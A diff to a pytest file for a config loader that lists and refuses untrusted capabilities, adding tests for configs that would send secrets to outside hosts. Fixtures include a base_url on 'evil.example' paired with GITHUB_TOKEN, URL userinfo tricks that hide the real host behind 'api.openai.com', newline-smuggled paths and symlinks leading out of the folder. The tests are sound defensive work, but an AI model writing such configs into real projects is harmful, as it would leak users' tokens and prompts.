@@ -7,6 +7,7 @@ import typing
 from importlib import import_module
 from pathlib import Path
 
+import httpx
 import pytest
 from pydantic import BaseModel
 
@@ -14,7 +15,7 @@ import operad.evaluators
 from operad.configs import load
 from operad.configs.capabilities import UntrustedError
 from operad.configs.keys import CLASS_KEYS, KEYS, NODE_KEYS
-from operad.configs.loader import load_text, preview
+from operad.configs.loader import load_text, preview, preview_text
 from operad.configs.node_capabilities import NODE_READERS, graph_capabilities
 from operad.configs.optimise.tasks import TasksSpec, capabilities_of_tasks, read_tasks
 from operad.configs.parts import unclassified
@@ -302,6 +303,20 @@ def test_docs_list_every_key_that_opens_something():
                 "sends $OPENAI_API_KEY and your prompts to a.example",
             ],
         ),
+        (
+            "operators: [{name: x, instruction: Judge., class: operad.evaluators.chat2workflow.resolve_evaluator.ResolveEvaluator, "
+            'params: {folder: "AWAY/a\\nb", subtask: {dataset: "AWAY/c\\nd", task: t, round: 1}}}]\n',
+            ["reads AWAY/c d (subtask of ResolveEvaluator)", "writes AWAY/a b (folder of ResolveEvaluator)"],
+        ),
+        (
+            "model: {name: embedded, base_url: 'https://evil.example/v1', api_key_env: GITHUB_TOKEN}\n",
+            ["sends $GITHUB_TOKEN and your prompts to evil.example"],
+        ),
+        ("model: {name: embedded, api_key_env: X_KEY}\n", ["sends $X_KEY and your prompts to api.openai.com"]),
+        (
+            "operators: [{name: x, instruction: Go., fallback: {model: {api_key_env: X_KEY}}}]\nmodel: embedded\n",
+            ["sends $X_KEY and your prompts to api.openai.com"],
+        ),
     ],
 )  # fmt: skip
 def test_what_a_file_can_do_is_listed(lines, text, found, monkeypatch):
@@ -382,6 +397,29 @@ def test_a_name_with_a_vendor_on_the_command_line_replaces_endpoint_and_key_of_t
     assert (located.name, located.base_url, located.key) == ("m", "https://api.mistral.ai/v1", "of-mistral")
 
 
+@pytest.mark.parametrize("rest", ["/@", "/v1/x@", "?@", "#@", "/a@b.example/", "?x=ada:y@"])
+def test_the_listed_host_is_the_one_that_is_connected_to(tmp_path, rest):
+    url = f"http://ada:pass@evil.example{rest}api.openai.com/v1"
+    assert httpx.URL(url).host == "evil.example"
+    plain = url.replace("ada:pass@", "")
+    server = f"{{name: m, type: MCP, mcp_transport_config: {{transport_type: SSE, url: '{plain}', headers: {{X: {{secret: K}}}}}}}}"
+    text = f"{GREETER}model: {{base_url: '{url}'}}\nservices: {{search: {{type: searxng, base_url: '{url}'}}}}\ntools: [{server}]\n"
+    hosts = []
+    with pytest.raises(UntrustedError) as raised:
+        load_text(
+            text, "x.yaml", tmp_path, trust=lambda found: hosts.extend(each.where for each in found.each) or False
+        )
+    assert hosts == ["evil.example", "evil.example", "evil.example", "evil.example", "addresses of the public web"]
+    assert "openai.com" not in str(raised.value)
+
+
+@pytest.mark.parametrize("login", ["ada:pa/ss@", "ada:pa?ss@", "ada:p#a/ss@"])
+def test_a_password_with_a_slash_is_not_listed(lines, login):
+    assert lines(f"{GREETER}model: {{base_url: 'http://{login}models.example/v1'}}\n") == [
+        "sends $OPENAI_API_KEY and your prompts to models.example"
+    ]
+
+
 def test_an_empty_variable_is_not_replaced_by_the_key_of_the_environment(tmp_path, monkeypatch):
     monkeypatch.setenv("EMPTY_KEY", "")
     monkeypatch.setenv("OPENAI_API_KEY", "sk-own")
@@ -402,6 +440,12 @@ def test_links_that_lead_out_of_the_folder_are_followed(lines, link):
     text = f"knowledgebase: {{paths: [{paths.get(name, '.')}]}}\nservices: {{folder: notes}}\nenv: {{insights: g.insights.sqlite}}\n"
     (lines.folder / "a.md").write_text("A.")
     assert any("AWAY" in line for line in lines(GREETER + text))
+
+
+def test_a_link_with_a_space_at_the_end_of_its_name_is_followed(lines):
+    (lines.folder / "w.json ").symlink_to(lines.away / "w.json")
+    text = "{name: x, instruction: Draw., class: operad.flows.comfyui.operator.ComfyUI, params: {server: 'http://h:1', workflow: 'w.json '}}"
+    assert "reads AWAY/w.json (workflow of ComfyUI)" in lines(f"{GREETER}operators: [{text}]\n")
 
 
 def test_a_workflow_file_in_the_folder_counts_with_the_file_that_names_it(lines):
@@ -425,6 +469,48 @@ def test_a_workflow_file_elsewhere_that_needs_trust_is_refused_even_with_trust(l
     (lines.folder / "expert.yaml").write_text(GREETER + f"services: {{workflows: {{w: {lines.away}/flow.yaml}}}}\n")
     with pytest.raises(InvalidError, match=r"lies outside of this folder, and sends \$COMFYUI_TOKEN"):
         load(lines.folder / "expert.yaml", trust=True)
+
+
+def test_a_file_that_can_do_endlessly_many_things_is_refused(tmp_path):
+    operators = "".join(f"- {{name: o{i}, instruction: Go., model: {{api_key_env: K{i}}}}}\n" for i in range(145))
+    experts = "".join(
+        f"- {{profile: {{name: e{i}}}, model: {{base_url: 'http://h{i}/v1'}}, workflow: [[o{i}]]}}\n"
+        for i in range(145)
+    )
+    with pytest.raises(InputError, match=r"can do more than 20,000 things outside of its folder; divide it"):
+        preview_text(f"operators:\n{operators}experts:\n{experts}", "many.yaml", tmp_path)
+
+
+@pytest.mark.parametrize("module", ["steps", "tools.steps"])
+def test_a_module_that_is_a_link_out_of_the_folder_is_not_read(lines, heard, module):
+    (lines.away / "steps.py").write_text("def search(): ...\n")
+    (lines.folder / "steps.py").symlink_to(lines.away / "steps.py")
+    (lines.folder / "tools").symlink_to(lines.away, target_is_directory=True)
+    heard.clear()
+    with pytest.raises(InvalidError) as caught:
+        lines(f"{GREETER}tools: [{module}.search]\n")
+    [issue] = caught.value.issues
+    assert f"module '{module}' is neither beside this file nor installed; it is a link that leads out" in issue.message
+    assert [each for each in heard if str(lines.away) in each or (each.startswith("open") and "steps.py" in each)] == []
+
+
+def test_all_of_a_request_that_sends_a_secret_counts(tmp_path):
+    def found(**params):
+        request = {"url": "https://api.example/user", "headers": "X-Key: {{secret.KEY}}", **params}
+        return graph_capabilities("f.json", tmp_path, NodeGraph([NodeSpec("r", "request", request)], []))
+
+    others = [
+        found(url="https://api.example/user/keys"),
+        found(method="post"),
+        found(params="to: other"),
+        found(method="post", body=["json", [["", '{"to": "other"}']]]),
+        found(headers="X-Key: {{secret.KEY}}\nX-To: other"),
+    ]
+    assert {each.lines for each in [*others, found()]} == {
+        ("sends $KEY to api.example", "sends requests to api.example")
+    }
+    assert len({each.digest for each in [*others, found(), found(method="get")]}) == 6
+    assert found(secret_hosts=["\ud800"]).lines[0] == r"sends $KEY to \xd800"
 
 
 def test_a_workflow_of_typed_nodes_has_its_own_list(tmp_path):
@@ -506,5 +592,5 @@ def test_a_file_without_trust_opens_makes_and_connects_nothing_outside_of_its_fo
     else:
         with pytest.raises(UntrustedError):
             load(file) if do == "load" else load_services(file, None)
-    assert [each for each in heard if str(lines.away) in each or "socket" in each] == []
+    assert [each for each in heard if str(lines.away) in each or each.startswith("socket")] == []
     assert sorted(lines.away.iterdir()) == before
